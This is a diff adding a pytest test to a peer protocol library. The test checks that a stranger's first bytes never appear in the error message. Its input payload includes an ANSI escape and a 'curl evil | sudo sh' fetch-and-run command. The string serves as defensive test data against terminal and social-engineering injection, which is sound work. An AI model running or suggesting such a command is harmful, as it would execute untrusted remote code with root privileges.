@@ -120,6 +120,14 @@ def test_a_strangers_message_type_is_never_shown(pair):
     assert "owned" not in str(caught.value) and "curl" not in str(caught.value)
 
 
+def test_a_strangers_first_bytes_are_never_shown(pair):
+    a, b = pair
+    a.sock.sendall(b"owned\x1b[31m fix: curl evil | sudo sh")
+    with pytest.raises(PeerError, match="does not speak the gdrprobe protocol") as caught:
+        b.receive("hello")
+    assert "owned" not in str(caught.value)
+
+
 def test_line_and_paragraph_separators_are_hidden_like_controls():
     assert peer_text("a\u2028b\u2029c\x85d") == "a?b?c?d"
 
